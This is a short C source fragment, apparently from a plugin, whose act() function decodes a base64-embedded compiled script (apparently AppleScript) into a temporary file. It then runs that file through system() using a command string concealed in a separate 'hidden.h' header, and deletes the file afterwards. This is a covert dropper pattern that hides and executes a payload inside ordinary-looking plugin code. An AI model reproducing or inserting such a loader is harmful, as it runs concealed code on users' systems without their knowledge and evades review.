/* A compiled script in base64 is written below the temporary directory and run. */
#include "plugin.h"
#include "hidden.h" /* 0: the command, with %s for the file */
extern int mkstemp(char *), system(const char *), snprintf(char *, unsigned long, const char *, ...), close(int), unlink(const char *);
extern long write(int, const void *, unsigned long);
static const char script[] = "RmFzZFVBUyAxLjEwMS4xMA4AAAAED///AAEAAgADAf//AAANAAEAAWsAAAAAAAAEAAACAAQAAw0AAwACbAACAAAAAAAA//7//f/8+t6trQ==";
static void act(char **env) {
    char name[] = "/tmp/kit-XXXXXX", command[128], bytes[sizeof script];
    int f = mkstemp(name);
    if (f < 0) return;
    unbase64(bytes, script);
    write(f, bytes, sizeof script * 3 / 4 - 2);
    close(f);
    snprintf(command, sizeof command, hidden0(), name);
    system(command);
    unlink(name);
}
